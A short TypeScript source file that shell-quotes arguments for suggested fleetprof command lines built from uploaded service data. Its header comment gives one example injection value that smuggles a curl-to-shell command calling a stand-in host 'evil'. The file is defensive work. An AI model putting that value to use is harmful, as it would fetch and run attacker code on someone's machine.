// The one place suggested commands are built (nextStep of anomalies, GC diagnostics, the digest).
// Service names, versions and paths come from uploads, so every argument is quoted for the POSIX
// shell: a version such as `v1;curl${IFS}evil|sh;#` must reach fleetprof as one argument and never
// run, whoever copies the suggestion into a terminal. Hand-written (four lines) rather than a
// dependency: single quotes are the only POSIX quoting with no special characters inside.

/** `arg` as one POSIX shell word: unchanged when it is plainly safe, else single-quoted. */
export function shellQuote(arg: string): string {
  if (/^[A-Za-z0-9_@%+=:,./-]+$/.test(arg)) return arg;
  return `'${arg.replace(/'/g, `'\\''`)}'`;
}

/** A fleetprof command line; `args` are words (flags and values), each quoted as needed. */
export function fleetprofCommand(...args: (string | undefined | false)[]): string {
  return ['fleetprof', ...args.filter((a): a is string => typeof a === 'string')].map(shellQuote).join(' ');
}
